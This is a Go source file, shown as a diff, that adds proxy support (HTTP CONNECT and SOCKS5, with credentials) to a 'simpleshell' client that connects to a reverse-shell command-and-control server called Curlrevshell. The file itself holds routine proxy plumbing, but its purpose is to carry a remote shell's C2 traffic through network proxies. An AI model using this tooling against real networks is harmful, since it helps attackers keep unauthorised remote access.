@@ -0,0 +1,263 @@
+package simpleshell
+
+/*
+ * proxy.go
+ * Connect to Curlrevshell via a proxy
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"bufio"
+	"context"
+	"crypto/tls"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+
+	"golang.org/x/net/http/httpproxy"
+	"golang.org/x/net/proxy"
+)
+
+const (
+	// ProxyNone may be used as [ConnConfig.Proxy] to connect directly to
+	// Curlrevshell, even if a proxy is set in the environment.
+	ProxyNone = "none"
+	// DefaultProxyTimeout is how long we wait for Curlrevshell's response
+	// through a proxy if [ConnConfig.ProxyTimeout] isn't set.
+	DefaultProxyTimeout = 30 * time.Second
+)
+
+var (
+	// ErrProxyTunnel indicates an HTTP proxy wouldn't make a tunnel to
+	// Curlrevshell with CONNECT.
+	ErrProxyTunnel = errors.New(
+		"proxy refused to make a tunnel, " +
+			"which is needed for full-duplex streaming",
+	)
+	// ErrProxyNoResponse indicates we didn't get a response through a
+	// proxy in time, likely because the proxy is waiting for the end of
+	// the request before sending it on.
+	ErrProxyNoResponse = errors.New(
+		"no response via proxy, which may be buffering the request " +
+			"and breaking full-duplex streaming",
+	)
+)
+
+// dialFunc is the signature of [http.Transport.DialContext].
+type dialFunc func(ctx context.Context, network, addr string) (net.Conn, error)
+
+// proxyURL returns the URL of the proxy to use to connect to c2, or nil to
+// connect directly.  If conf.Proxy is empty, env is used.
+func proxyURL(
+	conf ConnConfig,
+	c2 *url.URL,
+	env *httpproxy.Config,
+) (*url.URL, error) {
+	switch conf.Proxy {
+	case ProxyNone:
+		return nil, nil
+	case "":
+		u, err := env.ProxyFunc()(c2)
+		if nil != err {
+			return nil, fmt.Errorf(
+				"getting proxy from environment: %w",
+				err,
+			)
+		}
+		return u, nil
+	}
+
+	/* Bare host:port is an HTTP proxy, same as in the environment. */
+	ps := conf.Proxy
+	if !strings.Contains(ps, "://") {
+		ps = "http://" + ps
+	}
+	u, err := url.Parse(ps)
+	if nil != err {
+		return nil, fmt.Errorf("parsing proxy URL: %w", err)
+	}
+	return u, nil
+}
+
+// proxyDialer returns a dialFunc which connects via the proxy at pu, using d
+// to connect to the proxy.
+func proxyDialer(pu *url.URL, d *net.Dialer) (dialFunc, error) {
+	switch pu.Scheme {
+	case "http", "https":
+		return func(
+			ctx context.Context,
+			network string,
+			addr string,
+		) (net.Conn, error) {
+			return dialConnect(ctx, pu, d, addr)
+		}, nil
+	case "socks5", "socks5h":
+		/* x/net's SOCKS5 does the heavy lifting. */
+		var auth *proxy.Auth
+		if nil != pu.User {
+			auth = &proxy.Auth{User: pu.User.Username()}
+			auth.Password, _ = pu.User.Password()
+		}
+		sd, err := proxy.SOCKS5("tcp", proxyAddr(pu), auth, d)
+		if nil != err {
+			return nil, fmt.Errorf("setting up SOCKS5: %w", err)
+		}
+		cd, ok := sd.(proxy.ContextDialer)
+		if !ok {
+			return nil, fmt.Errorf("SOCKS5 dialer %T can't "+
+				"use a context", sd)
+		}
+		if "socks5h" == pu.Scheme {
+			return cd.DialContext, nil
+		}
+		/* Plain socks5 means we resolve names ourselves. */
+		return func(
+			ctx context.Context,
+			network string,
+			addr string,
+		) (net.Conn, error) {
+			host, port, err := net.SplitHostPort(addr)
+			if nil != err {
+				return nil, fmt.Errorf(
+					"splitting %s: %w",
+					addr,
+					err,
+				)
+			}
+			ips, err := net.DefaultResolver.LookupHost(ctx, host)
+			if nil != err {
+				return nil, fmt.Errorf(
+					"resolving %s: %w",
+					host,
+					err,
+				)
+			}
+			return cd.DialContext(
+				ctx,
+				network,
+				net.JoinHostPort(ips[0], port),
+			)
+		}, nil
+	default:
+		return nil, fmt.Errorf("unsupported proxy scheme %q", pu.Scheme)
+	}
+}
+
+// dialConnect uses d to connect to addr via the HTTP proxy at pu, using
+// CONNECT.  CONNECT is used for both http and https C2 URLs, as proxies
+// which pass on requests themselves tend to wait for the whole request
+// before sending it on.
+func dialConnect(
+	ctx context.Context,
+	pu *url.URL,
+	d *net.Dialer,
+	addr string,
+) (net.Conn, error) {
+	/* Connect to the proxy itself. */
+	c, err := d.DialContext(ctx, "tcp", proxyAddr(pu))
+	if nil != err {
+		return nil, fmt.Errorf("connecting to proxy: %w", err)
+	}
+	if "https" == pu.Scheme {
+		tc := tls.Client(c, &tls.Config{ServerName: pu.Hostname()})
+		if err := tc.HandshakeContext(ctx); nil != err {
+			c.Close()
+			return nil, fmt.Errorf(
+				"TLS handshake with proxy: %w",
+				err,
+			)
+		}
+		c = tc
+	}
+
+	/* Don't hang forever if the proxy does. */
+	stop := context.AfterFunc(ctx, func() {
+		c.SetDeadline(time.Unix(1, 0))
+	})
+	bc, err := func() (net.Conn, error) {
+		/* Ask for a tunnel. */
+		req := &http.Request{
+			Method: http.MethodConnect,
+			URL:    &url.URL{Opaque: addr},
+			Host:   addr,
+			Header: make(http.Header),
+		}
+		if nil != pu.User {
+			p, _ := pu.User.Password()
+			req.Header.Set(
+				"Proxy-Authorization",
+				"Basic "+base64.StdEncoding.EncodeToString(
+					[]byte(pu.User.Username()+":"+p),
+				),
+			)
+		}
+		if err := req.Write(c); nil != err {
+			return nil, fmt.Errorf("sending CONNECT: %w", err)
+		}
+
+		/* See if we got one. */
+		br := bufio.NewReader(c)
+		res, err := http.ReadResponse(br, req)
+		if nil != err {
+			return nil, fmt.Errorf(
+				"reading CONNECT response: %w",
+				err,
+			)
+		}
+		res.Body.Close()
+		if http.StatusOK != res.StatusCode {
+			return nil, fmt.Errorf(
+				"%w: %s",
+				ErrProxyTunnel,
+				res.Status,
+			)
+		}
+
+		/* Don't lose anything the proxy sent early. */
+		if 0 != br.Buffered() {
+			return &bufferedConn{Conn: c, r: br}, nil
+		}
+		return c, nil
+	}()
+	if !stop() && nil == err {
+		err = ctx.Err()
+	}
+	if nil != err {
+		c.Close()
+		return nil, err
+	}
+	return bc, nil
+}
+
+// proxyAddr returns pu's host:port, with the default port for pu's scheme if
+// pu doesn't have a port.
+func proxyAddr(pu *url.URL) string {
+	if "" != pu.Port() {
+		return pu.Host
+	}
+	port := "1080"
+	switch pu.Scheme {
+	case "http":
+		port = "80"
+	case "https":
+		port = "443"
+	}
+	return net.JoinHostPort(pu.Hostname(), port)
+}
+
+// bufferedConn is a net.Conn which reads from a bufio.Reader, for when a
+// proxy's sent data after its CONNECT response.
+type bufferedConn struct {
+	net.Conn
+	r *bufio.Reader
+}
+
+// Read reads from bc's bufio.Reader.
+func (bc *bufferedConn) Read(b []byte) (int, error) { return bc.r.Read(b) }